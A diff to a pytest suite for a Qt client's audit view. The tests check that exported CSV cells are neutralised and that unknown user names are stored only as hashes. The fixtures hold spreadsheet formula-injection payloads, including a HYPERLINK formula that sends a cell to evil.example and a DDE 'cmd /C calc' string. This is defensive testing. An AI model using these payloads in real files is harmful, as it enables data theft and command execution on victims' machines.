@@ -279,23 +279,41 @@ def test_a_symlink_in_the_folder_does_not_lead_the_file_elsewhere(backend: Scrip
 HOSTILE_USER = '=HYPERLINK("http://evil.example/?x="&B2,"open")'
 
 
-def test_a_hostile_user_name_is_text_in_the_audit_csv(qtbot: QtBot, mock_backend: MockProcess,
-                                                      tmp_path: Path) -> None:
-    with pytest.raises(InvalidCredentials):
-        BackendClient(mock_backend.url).sign_in(HOSTILE_USER, "not-a-password")
-    view = AuditView(open_session(BackendProfile("T", mock_backend.url), "supervisor", "demo"))
+def test_a_hostile_user_name_is_text_in_the_audit_csv(qtbot: QtBot, backend: Scripted, tmp_path: Path) -> None:
+    """The backend's audit entries are its data, not the app's: a hostile actor (a user name the
+    backend took as typed), role, target or case number is written as text."""
+    entry = {"id": 1, "at": "2026-12-01T10:00:00+00:00", "actor": HOSTILE_USER, "role": "+cmd|' /C calc'!A0",
+             "action": "auth.login", "outcome": "failure", "case_number": "@SUM(1+1)", "target": "-2+3",
+             "detail": {"reason": "wrong username or password"}}
+    backend.on("GET", "/api/v1/audit", json_reply({"items": [entry], "next_cursor": None, "total": 1}))
+    session = Session(signed_in(backend.url), BackendProfile("T", backend.url),
+                      Info(name="t", version="1", environment="training"), "sup", Role.supervisor)
+    view = AuditView(session)
     qtbot.addWidget(view)
-    view.actor.setText(HOSTILE_USER)
     view.reload()
-    qtbot.waitUntil(lambda: "audit entr" in view.status.text(), timeout=10_000)
-    assert view.model.rowCount() >= 1  # the failed attempt is audited, with that actor
+    qtbot.waitUntil(lambda: view.model.rowCount() == 1, timeout=10_000)
     out = view.export_csv(tmp_path / "audit.csv")
     assert out is not None
     with out.open(newline="", encoding="utf-8") as f:
         rows = list(csv.reader(f))
-    actors = [row[1] for row in rows[1:]]
-    assert actors and all(a == "'" + HOSTILE_USER for a in actors), actors
+    assert rows[1][1] == "'" + HOSTILE_USER
     assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
+
+
+def test_the_mock_audits_an_unknown_user_name_by_its_hash_only(mock_backend: MockProcess) -> None:
+    """A name that is no account (often a password typed in the wrong field) is not kept as typed:
+    the trail holds a hash, so repeated attempts still line up."""
+    for _ in range(2):
+        with pytest.raises(InvalidCredentials):
+            BackendClient(mock_backend.url).sign_in(HOSTILE_USER, "not-a-password")
+    supervisor = BackendClient(mock_backend.url)
+    supervisor.sign_in("supervisor", "demo")
+    expected = "unknown:" + hashlib.sha256(HOSTILE_USER.encode()).hexdigest()[:16]
+    entries = supervisor.list_audit(actor=expected, action="auth.login").items
+    assert len(entries) == 2 and all(e.outcome == "failure" for e in entries)
+    leaks = [e for e in supervisor.list_audit(limit=500).items if HOSTILE_USER in str(e.model_dump())]
+    assert not leaks, leaks
+    assert not supervisor.list_audit(actor=HOSTILE_USER).items
 
 
 def test_the_transparency_report_is_safe_as_csv_and_as_html() -> None:
